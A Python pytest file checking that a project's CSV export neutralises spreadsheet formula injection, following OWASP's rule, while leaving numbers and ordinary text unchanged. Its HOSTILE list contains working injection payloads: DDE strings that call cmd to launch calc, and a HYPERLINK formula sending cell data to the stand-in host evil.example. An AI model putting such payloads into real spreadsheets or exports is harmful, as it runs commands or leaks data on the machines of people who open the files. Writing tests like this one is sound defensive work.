"""Spreadsheet cells from people's text never run as formulas (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import io
from fractions import Fraction

import pytest

from pairsight.core.cells import csv_text, neutralise_cell, restore_cell

# Each of these starts a formula (or a DDE call) when Excel or LibreOffice opens the file.
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_gets_a_leading_apostrophe(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [-5, -2.5, 0, 1200, Fraction(-1, 3), None, "", "Health visitor", "a = b", "100%", "'quoted"],
)
def test_numbers_and_ordinary_text_are_left_as_they_are(value):
    assert neutralise_cell(value) == value
    assert type(neutralise_cell(value)) is type(value)


@pytest.mark.parametrize("text", ["-5", "-2,420", "-0.5", "+3", "-12.5%"])
def test_negative_numbers_written_as_text_stay_numbers(text):
    # A figure already formatted for people is still a number, not a formula.
    assert neutralise_cell(text) == text


def test_csv_text_neutralises_every_cell_and_keeps_numbers():
    text = csv_text([["answer", "count"], ["=1+1", -3], ["@x", 4]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["answer", "count"],
        ["'=1+1", "-3"],
        ["'@x", "4"],
    ]


@pytest.mark.parametrize("text", [*HOSTILE, "-5", "'quoted", "plain", "'", ""])
def test_a_neutralised_cell_reads_back_as_the_text_it_stood_for(text):
    assert restore_cell(neutralise_cell(text)) == text
